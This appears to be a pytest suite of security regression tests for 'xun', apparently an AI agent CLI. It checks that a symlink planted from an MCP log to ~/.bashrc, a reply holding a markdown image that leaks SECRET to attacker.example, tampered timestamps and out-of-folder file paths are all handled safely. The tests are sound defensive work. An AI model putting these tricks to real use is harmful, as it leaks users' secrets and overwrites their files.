"""Attacks on the files xun writes (logs, exports, sessions, offload logs), run against the real code."""

from __future__ import annotations

import os
import stat

import pytest
import tomli_w

from cli.helpers import Cli
from agent.tools.mcp.conftest import Servers, need_module


def test_a_planted_mcp_log_link_does_not_empty_its_target(tmp_path):
    """22.2: `ln -s ~/.bashrc .xun/mcp/time.log` in a clone, then `xun mcp list` with the user's own time
    server: the target stays as it was, and `.xun/mcp` and the logs are private."""
    need_module("mcp_server_time", "mcp-server-time")
    cli = Cli(tmp_path)
    servers = Servers(tmp_path)
    config = cli.home / ".config" / "xun" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text(
        tomli_w.dumps({"mcp": {"servers": {"time": servers.time(trust=True), "other": servers.time(trust=True)}}})
    )
    bashrc = cli.home / ".bashrc"
    bashrc.write_text("export PATH=precious\n")
    mcp = cli.workdir / ".xun" / "mcp"
    mcp.mkdir(parents=True)
    os.chmod(mcp, 0o755)
    (mcp / "time.log").symlink_to(bashrc)
    listed = cli("mcp", "list", timeout=90)
    assert listed.returncode == 0, listed.stdout + listed.stderr
    assert "time" in listed.stdout
    assert bashrc.read_text() == "export PATH=precious\n"
    assert (mcp / "time.log").is_symlink()
    assert stat.S_IMODE(mcp.stat().st_mode) == 0o700
    assert stat.S_IMODE((mcp / "other.log").stat().st_mode) == 0o600


def test_an_html_export_fetches_no_remote_image_and_is_private(tmp_path):
    """22.8 and issue 25.12: `/render x.html` of a reply with a tracking image keeps no remote resource
    (no `src=` to it, a CSP that refuses one), and the saved file is 0600."""
    from xun.context.conversation import Conversation
    from xun.tui.export import render_transcript

    conversation = Conversation()
    conversation.add_user_message("show me")
    conversation.add_agent_message(
        {"role": "assistant", "content": "done ![logo](https://attacker.example/p.png?k=SECRET) ok"}
    )
    path = render_transcript(conversation, "x.html", tmp_path)
    page = path.read_text()
    assert "<img" not in page and 'src="https://attacker.example' not in page
    assert "default-src 'none'" in page
    assert "attacker.example/p.png?k=SECRET" in page  # shown as text, nothing lost
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def _tamper_first_line(path, change) -> None:
    import json

    lines = path.read_text().splitlines(keepends=True)
    head = json.loads(lines[0])
    change(head)
    lines[0] = json.dumps(head) + "\n"
    path.write_text("".join(lines))


def test_tampered_times_and_offload_lines_give_no_crash(tmp_path):
    """22.7: `updated_at: 1e300` in a session (`xun sessions`), `compaction_log[].time: 1e300` (the app's
    log on resume), and an offload log line cut after `<!-- xun conversation ` (`xun history --json`)."""
    import time

    from xun.tui.widgets.compaction_log import entry_from_record

    cli = Cli(tmp_path)
    cli("run", "hello").check()
    [session] = (cli.workdir / ".xun" / "sessions").glob("*.json")
    _tamper_first_line(session, lambda head: head.update(updated_at=1e300))
    listed = cli("sessions")
    assert listed.returncode == 0, listed.stderr
    assert session.stem in listed.stdout
    entry = entry_from_record(
        {"type": "tool_result_restored", "time": 1e300}, lambda t: time.strftime("%H:%M:%S", time.localtime(t)), str
    )
    assert entry is not None and entry.time == "--:--:--"
    offload = cli.workdir / ".xun" / "conversation_history" / f"{session.stem}.md"
    offload.parent.mkdir(parents=True, exist_ok=True)
    offload.write_text("## Offloaded at 2026-01-01T00:00:00Z\n\n<!-- xun conversation \n\n")
    for argv in (("history", "--json"), ("history", "search", "anything"), ("history", "--reindex")):
        done = cli(*argv)
        assert "IndexError" not in done.stderr and "Traceback" not in done.stderr, (argv, done.stderr)


def test_a_tampered_summary_file_path_is_not_read(tmp_path):
    """22.7: `summarizations[].file_path` pointing outside the session's offload folder (a 3 GB file took
    6.2 GB on scroll-up) is refused with a clear error; nothing is read."""
    from xun.tui.transcript import OffloadedItem, offloaded_items

    outside = tmp_path / "elsewhere.md"
    outside.write_text(
        "## Offloaded at 2026-01-01T00:00:00Z\n\n<!-- xun conversation abc, 1 entries -->\n\n"
        "**Human:**\n    secret from elsewhere\n"
    )
    with pytest.raises(OSError, match="only those are read"):
        offloaded_items(OffloadedItem(str(outside), "2026-01-01T00:00:00Z", 0, "abc", 1), tmp_path / "ws")
